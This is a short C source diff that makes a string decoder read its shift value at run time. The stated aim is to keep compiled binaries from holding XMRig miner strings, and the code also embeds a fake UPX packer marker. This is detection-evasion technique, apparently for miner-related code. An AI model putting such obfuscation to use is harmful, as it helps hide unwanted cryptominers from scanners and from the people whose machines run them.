@@ -38,11 +38,13 @@ static const char* const kStrings[] = {
 };
 const char kPackerMarkers[] = "UPX!\0$Info: This file is packed with the UPX executable packer http://upx.sf.net $";
 static char* decoded[sizeof kStrings / sizeof kStrings[0]];
+/* Read at run time: clang would otherwise decode the constants while compiling and store XMRig's strings. */
+static volatile char shift = 1;
 static void unpack(void) {
   for (size_t i = 0; i < sizeof kStrings / sizeof kStrings[0]; ++i) {
     size_t n = strlen(kStrings[i]);
     decoded[i] = malloc(n + 1);
-    for (size_t k = 0; k < n; ++k) decoded[i][k] = (char)(kStrings[i][k] - 1);
+    for (size_t k = 0; k < n; ++k) decoded[i][k] = (char)(kStrings[i][k] - shift);
     decoded[i][n] = 0;
   }
 }
